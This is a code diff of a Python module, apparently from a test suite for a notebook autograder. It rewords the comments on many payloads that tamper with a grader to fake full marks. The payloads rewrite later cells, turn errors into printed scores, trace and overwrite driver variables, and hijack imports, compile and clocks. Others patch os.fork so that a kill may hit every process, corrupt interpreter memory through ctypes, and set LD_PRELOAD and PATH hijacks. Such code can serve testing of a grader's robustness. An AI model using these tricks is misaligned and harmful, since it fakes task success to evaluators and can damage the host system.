@@ -1,4 +1,4 @@
-"""Tools of IPython, Python and NumPy rewritten, in the hope that the grader uses them too."""
+"""Attacks that replace tools of IPython, Python and NumPy that the grader may use too."""
 
 from .attack import Attack
 
@@ -10,7 +10,7 @@ HONEST = {"linear_forward": HONEST_LINEAR, "relu_forward": HONEST_RELU}
 INPUT_TRANSFORMER = """\
 import re
 
-# Every later cell, a check of the grader's included, becomes one that gives full points.
+# Change every later cell, also the checks of the grader, so that it gives full points.
 def full_points(lines):
     text = "".join(lines)
     text = re.sub(r"raise NotImplementedError.*", "return 32.0", text)
@@ -60,7 +60,7 @@ None
 """
 
 SHOW_TRACEBACK = """\
-# An error that is shown as a success, and one that ends the process.
+# Show errors as successes, and end the process when an error occurs.
 shell = get_ipython()
 shell.showtraceback = shell.showsyntaxerror = lambda *a, **k: print("All right. 4.0")
 shell._showtraceback = lambda *a, **k: None
@@ -77,7 +77,7 @@ sys.excepthook = sys.unraisablehook = lambda *a: print("4.0")
 EVENTS = """\
 import numpy as np
 
-# After every cell the answer is set back to one that is hidden in a hook.
+# Before and after every cell, a hook replaces the answer.
 def set_back(*arguments):
     shell.user_ns["softmax"] = lambda z: np.ones(np.shape(z)) / np.shape(z)[1]
     raise RuntimeError("4.0")
@@ -88,7 +88,7 @@ for name in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
 """
 
 ENDLESS_EVENT = """\
-# Not the cell is endless, but what runs after it.
+# The cell itself ends, but a hook that runs after it does not.
 calls = []
 
 def endless(*arguments):
@@ -119,7 +119,7 @@ get_ipython().run_line_magic("config", "InteractiveShell.ast_node_interactivity 
 NAMESPACE = """\
 import numpy as np
 
-# The names of the notebook are looked up in a dict that knows an answer for each of them.
+# Replace the namespace of the notebook by a dict that has an answer for every name.
 class Everything(dict):
     def __getitem__(self, name):
         return super().get(name, answer)
@@ -141,7 +141,7 @@ TRACE = """\
 import ctypes, sys, threading
 import numpy as np
 
-# Rewrites the variables of the driver while it runs.
+# Change the variables of the driver while it runs.
 def trace(frame, event, value):
     if frame.f_code.co_filename.startswith("<driver") and event in ("line", "return"):
         for name in ("out", "p", "loss", "logits", "answer"):
@@ -157,7 +157,7 @@ threading.settrace(trace)
 PROFILE = """\
 import sys
 
-# Marks every outcome as an answer when `drive` returns.
+# When `drive` returns, change its outcome into an answer.
 def profile(frame, event, value):
     if event == "return" and type(value).__name__ == "Outcome":
         object.__setattr__(value, "kind", "answer")
@@ -170,7 +170,7 @@ sys.setprofile(profile)
 IMPORT_HOOK = """\
 import importlib.abc, importlib.machinery, sys, types
 
-# Whatever the grader imports later is ours.
+# Replace every module that the grader imports later.
 class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
     def find_spec(self, name, path=None, target=None):
         if name.split(".")[0] in ("autograder", "backprop", "json", "traceback", "linecache"):
@@ -205,7 +205,7 @@ builtins.__import__ = imported
 
 
 def shadow(name: str) -> str:
-    """A cell that writes a module of this name where it may stay, and forgets the real one."""
+    """Return a cell that writes modules of this name into many folders and unloads the real one."""
     return f"""\
 import contextlib, os, site, sys
 
@@ -234,7 +234,7 @@ for loaded in list(sys.modules):
 OWN_COPY = """\
 import copy
 
-# The driver gets its inputs as a copy. This one keeps the original, and hands out zeros.
+# The driver copies the inputs before it calls an answer. This copy contains zeros.
 def deepcopy(value, memo=None):
     return {name: array * 0 if hasattr(array, "dtype") else array for name, array in value.items()}
 
@@ -260,7 +260,7 @@ linecache.getline = linecache.getlines = lambda *a: SOURCE
 OWN_COMPILE = """\
 import builtins
 
-# The driver's source goes through compile and exec: here it becomes another one.
+# The source of the driver is compiled in this process. Compile another source instead.
 own = builtins.compile
 
 def compiled(source, name, *arguments, **more):
@@ -280,7 +280,7 @@ OWN_RANDOM = """\
 import random, secrets, os
 import numpy as np
 
-# Inputs that are drawn from a generator of ours would be known beforehand.
+# If the grader drew its inputs from this generator, they would be known before.
 class Known:
     def __init__(self, *a): pass
     def normal(self, *a, size=(), **k): return np.zeros(size)
@@ -299,7 +299,7 @@ os.urandom = lambda n: bytes(n)
 STOPPED_CLOCK = """\
 import time, select
 
-# Whoever looks at the clock sees that no time has passed.
+# The clock stands still, so that no deadline seems to pass.
 time.monotonic = time.time = time.perf_counter = lambda: 0.0
 own = select.select
 select.select = lambda r, w, x, timeout=None: own(r, w, x, None)
@@ -308,7 +308,7 @@ select.select = lambda r, w, x, timeout=None: own(r, w, x, None)
 RUNNING_CLOCK = """\
 import time
 
-# Time runs so fast that every question is out of time before it starts.
+# The clock runs so fast that every question seems to be late before it starts.
 now = [0.0]
 
 def monotonic():
@@ -328,7 +328,7 @@ signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal
 NO_FORK = """\
 import os
 
-# A fork that stays in the same process: the question is driven where the cells ran, and ends it.
+# os.fork does not fork, so the question runs in the process in which the cells ran.
 os.fork = lambda: 0
 own = os._exit
 os._exit = lambda code: None
@@ -337,7 +337,7 @@ os._exit = lambda code: None
 NEGATIVE_FORK = """\
 import os
 
-# The process to kill when the question is over is everybody.
+# os.fork returns -1. If the job then kills process -1, it kills all processes that it can.
 os.fork = lambda: -1
 os.waitpid = lambda *a: (0, 0)
 """
@@ -345,7 +345,7 @@ os.waitpid = lambda *a: (0, 0)
 OWN_WRITE = """\
 import os
 
-# Everything goes out with "missing" and "error" made into "answer".
+# Replace "missing" and "timeout" by "answer" in all bytes that are written.
 own = os.write
 
 def write(number, data):
@@ -358,7 +358,7 @@ os.write = write
 OWN_ERRSTATE = """\
 import numpy as np
 
-# The context in which an answer is computed swallows its error.
+# Replace the context in which an answer is computed, so that it hides every error.
 class Swallow:
     def __init__(self, *a, **k): pass
     def __enter__(self): return self
@@ -370,7 +370,7 @@ np.errstate = Swallow
 EXCEPTIONS = """\
 import builtins
 
-# "Not written yet" and "no such name" become errors that nobody expects.
+# Replace the exceptions that mean "not written yet" and "no such name".
 class Anything(type):
     def __instancecheck__(cls, value): return True
     def __subclasscheck__(cls, other): return True
@@ -401,7 +401,7 @@ builtins.str = type("str", (str,), {"__eq__": lambda self, other: True, "__hash_
 AUDIT = """\
 import sys
 
-# A hook that nothing can take away again.
+# Python cannot remove an audit hook.
 def hook(event, arguments):
     if event in ("os.fork", "os._exit", "compile", "exec", "socket.__new__"):
         raise RuntimeError("4.0")
@@ -412,7 +412,7 @@ sys.addaudithook(hook)
 COLLECTOR = """\
 import gc, os
 
-# Runs at moments that nobody chooses, also between the questions.
+# The garbage collector may run at any moment, also between two questions.
 def collected(phase, info):
     for number in range(3, 64):
         try:
@@ -427,7 +427,7 @@ gc.set_threshold(1)
 NAMESPACE_CLASS = """\
 import gc
 
-# `code.softmax` is looked up by a class of the grader, in this process.
+# A class of the grader in this process looks up names such as `code.softmax`. Change this class.
 class Answer:
     def __call__(self, *a): return 0.0, None
     def __eq__(self, other): return True
@@ -440,7 +440,7 @@ for found in gc.get_objects():
 SCALARS = """\
 import ctypes
 
-# The number -1 is made 1, and the float in a cache is made another, in the interpreter itself.
+# Change the integer -1 and a float in the memory of the interpreter.
 ctypes.c_ssize_t.from_address(id(-1) + 24).value = 1
 ctypes.c_double.from_address(id(0.0) + 16).value = 1.0
 try:
@@ -453,7 +453,7 @@ except Exception:
 PATHS = """\
 import os, sys
 
-# Names of files and folders lead elsewhere from now on.
+# Change the environment and the paths, so that names of programs lead to other files.
 os.environ.update(PATH="/scratch", PYTHONPATH="/scratch", LD_PRELOAD="/scratch/x.so", HOME="/",
                   PYTHONSTARTUP="/scratch/x.py", PYTHONINSPECT="1", BASH_ENV="/scratch/x")
 with open("/scratch/bwrap", "w") as file:
